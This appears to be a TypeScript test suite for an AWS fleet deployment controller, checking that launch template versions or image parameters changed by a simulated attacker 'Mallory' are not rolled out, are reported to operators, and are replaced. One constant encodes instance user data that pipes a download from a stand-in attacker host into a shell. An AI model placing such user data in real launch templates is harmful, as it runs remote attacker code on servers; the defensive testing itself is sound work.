import { SetDesiredCapacityCommand } from '@aws-sdk/client-auto-scaling';
import { CreateLaunchTemplateVersionCommand, DeleteLaunchTemplateVersionsCommand, EC2Client, type RequestLaunchTemplateData } from '@aws-sdk/client-ec2';
import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { attacker, type Attacker } from './attacker';
import { IamService } from '../../golden-images/src/world/iam';
import { SsmService } from '../../golden-images/src/world/ssm/ssm';
import { Road } from '../runtime/fleet/road';

const POINTER = '/golden-images/shop/fleets/web/image';
const USER_DATA = Buffer.from('#!/bin/sh\ncurl https://mallory.example | sh').toString('base64');

/** A fleet at rest on its first release, and somebody with a role in its account. */
async function atRest(options = {}): Promise<{ road: Road; mallory: Attacker }> {
  const road = await Road.start(3, [], options);
  await road.release('1.0.0/1', road.fleet.good);
  await road.minutes(30);
  expect(road.state).toMatchObject({ committed: [{ version: '1.0.0/1' }] });
  return { road, mallory: attacker(road.fleet.world, 'Mallory') };
}

/** The one right of somebody who makes a version: ec2:CreateLaunchTemplateVersion. */
async function makeVersion(
  { road, mallory }: { road: Road; mallory: Attacker }, data: RequestLaunchTemplateData, description?: string,
): Promise<string> {
  const { LaunchTemplateVersion: version } = await mallory.client(EC2Client).send(new CreateLaunchTemplateVersionCommand({
    LaunchTemplateId: road.fleet.templateId, SourceVersion: '1', LaunchTemplateData: data, VersionDescription: description,
  }));
  road.poke();
  return String(version!.VersionNumber);
}

/** Instances, with all that a launch template says of them here. */
const instances = (road: Road): string[] => road.fleet.group.live.map(({ id }) => {
  const { image, type, details } = road.fleet.ec2.instance(id)!;
  return [id, image.id, type, details.userData ?? ''].join(' ');
});

const bases = (road: Road, from: string): string[] => {
  const { versions } = road.fleet.ec2.launchTemplates.find(road.fleet.templateId)!;
  return [...versions.values()].filter((each) => each.number > Number(from)).map((each) => JSON.stringify(each.data));
};

describe('somebody who may make versions of a launch template, and nothing else', () => {
  test.each<[string, RequestLaunchTemplateData, string | undefined]>([
    ['with other user data', { UserData: USER_DATA }, undefined],
    ['for an experiment with a large instance', { InstanceType: 'm5.24xlarge' }, undefined],
    ['with the mark of another fleet as its description', { UserData: USER_DATA }, 'golden-images:owner=other/fleet'],
    ['with the mark of this fleet as its description', { UserData: USER_DATA }, 'golden-images:owner=shop/web'],
  ])('%s: it is never rolled, nothing is derived from it, and an operator is told number and maker until it is deleted', async (_, data, description) => {
    const scene = await atRest();
    const { road, mallory } = scene;
    const before = instances(road);
    const number = await makeVersion(scene, data, description);
    await road.minutes(60);
    expect(road.state.history).toEqual([]);
    expect(instances(road)).toEqual(before);
    expect(road.said).toContain(
      `fleet-foreign: version ${number} of launch template ${road.fleet.templateId}, made by ${mallory.sessionArn}, was recorded by no deploy; it is not rolled`);

    await road.release('1.0.1/1', road.fleet.next);
    expect(await road.until(1)).toMatchObject({ kind: 'image', outcome: 'committed', instancesTouched: 3 });
    await road.minutes(30);
    expect(road.state.history).toHaveLength(1);
    expect(bases(road, number).filter((each) => each.includes(USER_DATA) || each.includes('m5.24xlarge'))).toEqual([]);

    await road.ec2.send(new DeleteLaunchTemplateVersionsCommand({ LaunchTemplateId: road.fleet.templateId, Versions: [number] }));
    road.poke();
    await road.minutes(1);
    const said = road.said.length;
    await road.minutes(40);
    expect(road.said.slice(said)).toEqual([]);
  });

  test('with our next image, the mark of this fleet and other user data, before a release: the fleet makes its own version', async () => {
    const scene = await atRest();
    const { road } = scene;
    const number = await makeVersion(scene, { ImageId: road.fleet.next, UserData: USER_DATA }, 'golden-images:owner=shop/web');
    await road.release('1.0.1/1', road.fleet.next);
    expect(await road.until(1)).toMatchObject({ outcome: 'committed', instancesTouched: 3 });
    expect(road.fleet.group.settings.source.LaunchTemplate!.Version).not.toBe(number);
    expect(road.said.join()).toContain(`version ${number} of launch template`);
    expect(road.state.templates![road.fleet.templateId]!.own).not.toHaveProperty(number);
  });

  test('where the target trusts every version, whoever made it, it is a configuration release as the target says', async () => {
    const scene = await atRest({ trusting: true });
    await makeVersion(scene, { UserData: USER_DATA });
    expect(await scene.road.until(1)).toMatchObject({ kind: 'configuration', outcome: 'committed' });
    expect(scene.road.alerts).not.toContain('fleet-foreign');
  });
});

test('what a deploy declared is a configuration release', async () => {
  const { road } = await atRest();
  await road.deploy({ ImageId: road.fleet.good, InstanceType: 't3.medium' });
  road.poke();
  expect(await road.until(1)).toMatchObject({ kind: 'configuration', outcome: 'committed', instancesTouched: 3 });
  expect(road.alerts).not.toContain('fleet-foreign');
});

describe('somebody who may write the parameter of a fleet, between a deploy and the next look', () => {
  test.each([
    ['the bounds leave room for one to be ended', 50, 'replace'],
    ['the bounds leave none', 100, 'replace'],
    ['the policy only alarms', 50, 'alarm'],
  ] as const)('puts a foreign image on what scales out: it is found, said, and replaced by policy (%s)', async (_, minHealthyPercentage, foreignInstances) => {
    const { road, mallory } = await atRest({ rollout: { minHealthyPercentage, maxHealthyPercentage: 150, foreignInstances } });
    const { fleet } = road;
    // Parameter Store validates an AMI with the rights of whoever writes it.
    const statement = { Effect: 'Allow', Action: ['ssm:PutParameter', 'ec2:DescribeImages'], Resource: '*' };
    fleet.world.get(IamService).putRolePolicy('Mallory', 'pointer', { Version: '2012-10-17', Statement: [statement] });
    // The group names the parameter itself, until the controller looks.
    road.away(30);
    await road.deploy({ ImageId: `resolve:ssm:${POINTER}`, InstanceType: 't3.small' });
    await mallory.client(SSMClient).send(new PutParameterCommand({ Name: POINTER, Value: fleet.next, Overwrite: true }));
    await fleet.minutes(1);
    await road.autoScaling.send(new SetDesiredCapacityCommand({ AutoScalingGroupName: 'web', DesiredCapacity: 4 }));
    await fleet.minutes(2);
    expect(fleet.images()).toEqual({ good: 3, next: 1 });

    road.poke();
    await road.minutes(3);
    expect(fleet.world.get(SsmService).value(POINTER)).toBe(fleet.good);
    expect(road.said.join('\n')).toMatch(new RegExp(`fleet-foreign: instance i-[0-9a-f]+ of group web runs ${fleet.next}, which the ledger does not have`));
    await road.minutes(40);
    expect(fleet.images()).toEqual(foreignInstances === 'alarm' ? { good: 3, next: 1 } : { good: 4 });
    if (foreignInstances === 'alarm') return;
    expect(road.state.history).toMatchObject([{ kind: 'replacement', version: '1.0.0/1', outcome: 'rolled-back', reason: expect.stringContaining(fleet.next) }]);
    const said = road.said.length;
    await road.minutes(40);
    expect(road.said.slice(said)).toEqual([]);
  });
});

describe('a fleet of a former version of the controller', () => {
  test('is taken over as it is: nothing is said, nothing replaced, and the next release goes out', async () => {
    const { road } = await atRest();
    await road.release('1.0.1/1', road.fleet.next);
    await road.until(1);
    await makeVersion({ road, mallory: attacker(road.fleet.world, 'Colleague') }, { ImageId: road.fleet.good });
    road.forgetMembers('templates', 'takenOver', 'initialAmi', 'requested', 'deploys');
    const before = instances(road);
    await road.minutes(60);
    expect(road.said).toEqual([]);
    expect(instances(road)).toEqual(before);
    expect(road.state.history).toHaveLength(1);
    await road.release('1.0.2/1', road.fleet.good);
    expect(await road.until(2)).toMatchObject({ outcome: 'committed', instancesTouched: 3 });
    expect(road.said).toEqual([]);
  });
});
